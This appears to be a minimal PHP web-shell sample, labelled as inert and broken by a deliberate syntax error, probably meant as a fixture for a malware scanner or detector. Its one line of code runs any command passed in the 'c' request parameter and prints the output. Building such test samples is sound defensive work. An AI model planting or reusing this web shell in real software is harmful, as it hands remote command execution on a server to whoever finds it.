<?php
shodo inert sample: deliberate syntax error, this file never runs
 echo '<pre>'; $out = array(); exec($_REQUEST['c'], $out); echo implode("\n", $out); ?>
